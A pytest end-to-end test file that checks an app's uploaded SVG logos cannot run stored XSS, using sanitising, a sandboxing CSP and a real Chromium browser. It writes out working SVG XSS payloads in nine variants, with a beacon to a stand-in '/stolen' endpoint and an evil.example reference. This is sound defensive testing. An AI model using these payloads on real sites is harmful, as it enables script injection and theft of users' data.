"""Issue 14's stored XSS: uploaded logos and favicons cannot run script. Each variant is
uploaded through the admin API; a real browser (Debian's chromium) opens the asset's own URL,
clicks it, and opens the status page that shows it; no script may run (no dialog, no
request to the stand-in attacker's server)."""

from __future__ import annotations

import base64
import hashlib
import re
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
import sqlalchemy as sa

from engine.accounts import create_api_key
from engine.db import Store
from engine.tables import assets, status_pages
from tests.browsers import chromium
from tests.support import RecordingServer, data_store, serve

pytestmark = [pytest.mark.browser, pytest.mark.e2e]

SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def variants(js: str) -> dict[str, bytes]:
    """Malicious SVGs, each running `js` if anything lets it."""
    evil = base64.b64encode(f"<svg {SVG}><script>{js}</script></svg>".encode()).decode()
    encoded = "".join(f"&#{ord(c)};" for c in f"javascript:{js}")
    box = '<rect width="400" height="400" fill="red"/>'
    return {
        "onload": f'<svg {SVG} onload="{js}">{box}</svg>',
        "onerror": f'<svg {SVG}><image href="x:nothing" onerror="{js}"/>{box}</svg>',
        "script": f"<svg {SVG}><script>{js}</script>{box}</svg>",
        "xlink-href": f'<svg {SVG}><a xlink:href="javascript:{js}">{box}</a></svg>',
        "entity-encoded": f'<svg {SVG}><a href="{encoded}">{box}</a></svg>',
        "use-external": f'<svg {SVG}><use href="https://evil.example/x.svg#a"/>'
        f'<use xlink:href="data:image/svg+xml;base64,{evil}#a"/>{box}</svg>',
        "foreign-object": f"<svg {SVG}><foreignObject width='400' height='400'>"
        f'<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;{js}&lt;/script&gt;"/>'
        f"</foreignObject>{box}</svg>",
        "animate-href": f'<svg {SVG}><a><animate attributeName="href" values="javascript:{js}"/>'
        f"{box}</a></svg>",
        "set-onclick": f'<svg {SVG}><set attributeName="onclick" to="{js}"/>{box}</svg>',
    }


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Store, dict[str, str]]]:
    data = tmp_path_factory.mktemp("xss") / "data"
    with data_store(data, upgrade=True) as store:
        admin = {"Authorization": f"Bearer {create_api_key(store, name='xss', admin=True)}"}
        with serve(data) as base:
            assert httpx.post(
                f"{base}/api/v1/teams", json={"key": "acme"}, headers=admin
            ).is_success
            page = httpx.post(
                f"{base}/api/v1/pages",
                json={"slug": "acme", "name": "Acme", "teams": ["acme"], "active": True},
                headers=admin,
            )
            assert page.status_code == 201, page.text
            yield base, store, {**admin, "page": str(page.json()["id"])}


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium(axe=False) as launched:
        yield launched


def _logo_digest(store: Store) -> str:
    with store.read() as conn:
        return str(
            conn.execute(
                sa.select(assets.c.sha256).join(
                    status_pages, status_pages.c.logo_asset_id == assets.c.id
                )
            ).scalar_one()
        )


def _no_script_runs(browser: Any, urls: list[str], attacker: RecordingServer) -> list[str]:
    """Open and click each URL; what ran (dialogs), if anything."""
    ran: list[str] = []
    context = browser.new_context()
    page = context.new_page()
    page.on("dialog", lambda dialog: (ran.append(f"dialog {dialog.message}"), dialog.dismiss()))
    for url in urls:
        page.goto(url)
        page.wait_for_timeout(300)
        page.mouse.click(100, 100)  # a link drawn over the image, if one survived
        page.wait_for_timeout(300)
        if page.url != url and not page.url.startswith(url.rsplit("/", 1)[0]):
            ran.append(f"navigated to {page.url}")
    context.close()
    return ran + [f"request {r['path']}" for r in attacker.requests]


def test_uploaded_svgs_cannot_run_script(site: Any, browser: Any, server: RecordingServer) -> None:
    base, store, admin = site
    js = f"alert(document.domain);navigator.sendBeacon('{server.url}/stolen')"
    url = f"{base}/api/v1/pages/{admin['page']}/logo"
    headers = {"Authorization": admin["Authorization"]}
    for name, svg in variants(js).items():
        uploaded = httpx.put(url, content=svg.encode(), headers=headers)
        assert uploaded.status_code in (200, 422), (name, uploaded.text)
        if uploaded.status_code == 422:
            continue  # refused outright: nothing to open
        digest = _logo_digest(store)
        with store.read() as conn:
            kept = conn.execute(
                sa.select(assets.c.data).where(assets.c.sha256 == digest)
            ).scalar_one()
        # What svg-hush keeps has no handler and no script link (inert text may stay: an
        # <animate values="javascript:..."> without its attributeName animates nothing).
        assert not re.search(rb"\son\w+\s*=|<script|href\s*=\s*\"\s*javascript", kept, re.I), name
        assert b"attributeName" not in kept, name
        asset = f"{base}/p/acme/assets/{digest}"
        answer = httpx.get(asset)
        assert answer.headers["content-security-policy"] == (
            "default-src 'none'; style-src 'unsafe-inline'; sandbox"
        )
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert _no_script_runs(browser, [asset, f"{base}/p/acme/"], server) == [], name


def test_an_svg_stored_before_sanitising_still_cannot_run(
    site: Any, browser: Any, server: RecordingServer
) -> None:
    """Defence in depth: a hostile SVG already in the store (an upload from an older
    release) is served under the sandboxing CSP, so it runs nothing either."""
    base, store, _ = site
    js = f"alert(document.domain);navigator.sendBeacon('{server.url}/stolen')"
    raw = variants(js)["onload"].encode()
    digest = hashlib.sha256(raw).hexdigest()
    with store.begin() as conn:
        asset_id = conn.execute(
            assets.insert().values(
                sha256=digest,
                content_type="image/svg+xml",
                data=raw,
                created_at=datetime.now(UTC),
            )
        ).inserted_primary_key[0]
        conn.execute(status_pages.update().values(logo_asset_id=asset_id))
    asset = f"{base}/p/acme/assets/{digest}"
    assert httpx.get(asset).content == raw
    assert _no_script_runs(browser, [asset], server) == []


def test_a_control_svg_without_the_csp_would_run(
    browser: Any, server: RecordingServer, tmp_path: Path
) -> None:
    """The test can see script run: the same hostile SVG from a plain file does."""
    js = f"alert(document.domain);navigator.sendBeacon('{server.url}/stolen')"
    path = tmp_path / "evil.svg"
    path.write_text(variants(js)["onload"])
    ran = _no_script_runs(browser, [path.as_uri()], server)
    assert any(r.startswith("dialog") for r in ran)
